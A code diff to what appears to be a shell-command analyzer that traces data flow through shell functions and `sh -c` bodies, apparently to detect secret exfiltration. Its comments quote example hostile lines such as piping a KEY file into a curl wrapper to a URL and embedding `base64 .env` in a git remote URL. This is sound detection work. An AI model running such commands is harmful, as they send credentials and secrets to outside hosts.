@@ -175,6 +175,9 @@ class _Draft:
     stdin_heirs: list["_Draft"] = field(default_factory=list)
     scripts_at: list[int] = field(default_factory=list)  # its inline code's Script (index in the walk's scripts)
     fed_by: list["_Draft"] = field(default_factory=list)  # the pipeline stage before it
+    # the commands of a function body or `sh -c` script that get its words as "$@": what computes those
+    # words (`f -d "$(cat KEY)" URL`) feeds them
+    word_heirs: list["_Draft"] = field(default_factory=list)
 
     def freeze(self) -> SimpleCommand:
         argv = self.argv
@@ -239,6 +242,9 @@ class _Walker:
         self.exported: set[str] = set()  # names `export`ed earlier on the line (_INHERITED_ENV)
         self.allexport = False  # `set -a` / `set -o allexport` ran earlier on the line
         self.hashed: dict[str, str] = {}  # `hash -p PATH NAME`: NAME runs PATH
+        # functions defined on the line (name → body): a later call runs the body with the call's words as
+        # "$@" and the call's stdin, as `sh -c BODY NAME WORDS` would
+        self.functions: dict[str, str] = {}
         self.git_aliases: dict[str, str] = {}  # `git config alias.NAME BODY` earlier on the line
         self.moved: dict[str, str] = {}  # `mv SRC DEST`: DEST (and DEST/basename) → SRC
         self.code_assign: dict[str, str] = {}  # variable → its value as written, when a command computes it
@@ -497,6 +503,9 @@ class _Walker:
             return []
         if t == "function_definition":
             body = node.child_by_field_name("body")
+            name = node.child_by_field_name("name")
+            if name is not None and body is not None and len(self.functions) < 64:
+                self.functions[self.text(name)] = self.text(body)
             return self.stmt(body, via, depth, sd + 1) if body is not None else []
         if t == "for_statement":
             return self.for_loop(node, via, depth, sd)
@@ -1740,8 +1749,10 @@ class _Walker:
             self.exec_fd_operands(draft[0], via, depth)
         if draft:
             prog = draft[0].argv[0]
+            heirs = [m.argv[0] for m in draft[0].word_heirs if m.argv]
             for f in feeders:
                 f.downstream.append(prog)
+                f.downstream.extend(h for h in heirs if h not in f.downstream)
             disabled = _disabled_operands(draft[0].argv)
             if namers and prog in _URL_CONTACTORS:
                 # `git ls-remote "https://h/$(base64 .env)"`, `docker pull "h/$(…):1"`, `pip download
@@ -2186,12 +2197,21 @@ class _Walker:
                 if content is not None:  # `echo … > x.command; open x.command`: the desktop runs it
                     if lang != "app":  # (a bundle is a folder: runs.py reads its executable)
                         self.nested_shell(launchers.as_shell(lang, content), via, depth, f"{prog} {f}", inherit=d)
+        body = self.functions.get(prog) if not d.program_path else None
+        if body is not None and len(self.layers) < 64 and f"function {prog}" not in via:
+            # `f(){ curl "$@"; }; cat KEY | f -d @- URL`: the body with the call's words and stdin (not
+            # again inside its own body: a recursive call is the same text)
+            made = self.nested_shell(body, via, depth, f"function {prog}", inherit=d, upstream=tuple(d.upstream),
+                                     params=[prog, *args])
+            d.word_heirs.extend(made[:16])
         if prog in SHELLS:
             script = _shell_c_arg(args)
             if script is not None:
                 after = args[args.index(script) + 1:] if script in args else []
-                self.nested_shell(script, via, depth, f"{prog} -c", inherit=d, upstream=tuple(d.upstream),
-                                  params=after if after else None)
+                made = self.nested_shell(script, via, depth, f"{prog} -c", inherit=d, upstream=tuple(d.upstream),
+                                         params=after if after else None)
+                if after:
+                    d.word_heirs.extend(made[:16])
                 return
             file_arg = _first_positional(args)
             if file_arg is not None:
